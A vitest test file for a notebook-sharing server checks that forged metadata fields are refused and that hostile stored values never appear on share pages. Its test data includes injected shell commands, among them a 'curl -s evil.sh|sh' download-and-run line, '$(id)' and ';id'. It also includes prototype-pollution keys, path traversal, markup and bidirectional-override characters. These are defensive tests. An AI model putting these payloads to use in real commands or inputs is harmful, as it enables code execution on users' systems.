import { randomBytes, randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { SharedMetadata } from '../../src/share/protocol.ts';
import { type AppWithHub, notebookText, openAppWithHub } from './open-app.ts';

// The metadata of an uploaded notebook appears in links, in labels and in a command to copy.
const MODEL = 'acorn-labs/tiny-poet';
const SHA = 'a1'.repeat(20);
let opened: AppWithHub;
beforeAll(async () => {
  opened = await openAppWithHub();
});
afterAll(() => opened.close());

const upload = (alacard: object) =>
  opened.app.inject({
    method: 'POST',
    url: '/api/notebook',
    headers: { 'content-type': 'application/json' },
    payload: notebookText({ alacard }),
  });
const page = async (shareId: string) => (await opened.app.inject(`/s/${shareId}`)).body;
const commandOf = (body: string) => /<pre class="command"><code>(.*?)<\/code><\/pre>/s.exec(body)?.[1];

describe('an upload', () => {
  const FIELDS: Record<string, unknown[]> = {
    model: ['a/b\ncurl -s evil.sh|sh', 'a/b;id', 'a/b --host x', '-rf', '../x', 'a/b@main', 5, null],
    sha: [
      '1\ncurl -s evil.sh|sh',
      `${SHA}\n`,
      `${SHA};id`,
      SHA.toUpperCase(),
      SHA.slice(1),
      `${SHA}0`,
      '',
      '$(id)',
      [SHA],
      null,
    ],
    version: ['<b>1.0.0</b>', '1.0.0\nby Meta', 'latest', `1.0.0-${'x'.repeat(60)}`, '1.0.0 \u202e', 1, null],
    strategy: [
      'constructor',
      '__proto__',
      'toString',
      'hasOwnProperty',
      'readme-python ',
      'the best',
      '',
      7,
      null,
    ],
    requested_revision: ['main\nid', 'a b', '../../x', 'x'.repeat(300), 7],
    target: ['constructor', 'colab;id', 7],
    quantize: ['8bit', true],
    example_lines: ['1-2', [[0, 1]], [[1, 'x']], [1, 2]],
    reasons: ['x', [{ strategy: 'constructor', reason: 'x' }], [{ strategy: 'task' }]],
    warnings: ['x', [5]],
  };
  test.each(Object.entries(FIELDS))('with a forged %s is refused by name', async (field, values) => {
    for (const value of values) {
      const answer = await upload({ [field]: value });
      expect([value, answer.statusCode, answer.json().code]).toEqual([value, 422, 'NOTEBOOK_INVALID']);
      expect(answer.json().detail).toContain(`metadata.alacard.${field}`);
    }
  });

  test('with fields of a newer version is kept byte for byte, and the page shows none of them', async () => {
    const answer = await upload({
      sha: SHA,
      strategy: 'task',
      invented: '<b>new</b>',
      title: 'curl evil|sh',
    });
    expect(answer.statusCode).toBe(201);
    const body = await page(answer.json().share_id);
    expect(commandOf(body)).toBe(`npx alacard generate ${MODEL}`);
    for (const text of ['new', 'curl', 'evil']) expect(body).not.toContain(`${text}<`);
  });
});

test.each<[string, Partial<Record<keyof SharedMetadata, unknown>>]>([
  ['a commit with a second line', { source_readme_sha: '1\ncurl -s evil.sh|sh' }],
  ['a native function as its strategy', { strategy: 'constructor' }],
  ['a strategy that every object has', { strategy: '__proto__' }],
  ['a version with markup and a second line', { generated_by: 'alacard <i>\u202e\nby Meta' }],
])('a row of an older server with %s is shown without it', async (_, hostile) => {
  const shareId = randomBytes(16).toString('base64url');
  const metadata = {
    model_info: { name: 'tiny-poet' },
    source_readme_sha: null,
    generated_by: 'alacard 1.0.0',
    ...hostile,
  };
  await opened.store.save({
    id: randomUUID(),
    shareId,
    createdAt: '2026-11-24T10:00:00.000Z',
    expiresAt: null,
    modelId: MODEL,
    origin: 'uploaded',
    metadata: metadata as SharedMetadata,
    visibility: 'public',
    deletionTokenHash: randomBytes(32).toString('hex'),
    bytes: Buffer.from(notebookText()),
  });
  const body = await page(shareId);
  expect(commandOf(body)).toBe(`npx alacard generate ${MODEL}`);
  for (const text of ['curl', 'native code', 'function', '[object', 'Meta']) expect(body).not.toContain(text);
  expect((await opened.app.inject('/gallery')).statusCode).toBe(200);
  const facts = (await opened.app.inject(`/api/notebook/${shareId}`)).json();
  expect(facts.metadata).toEqual({
    model_info: { name: 'tiny-poet' },
    source_readme_sha: null,
  });
});
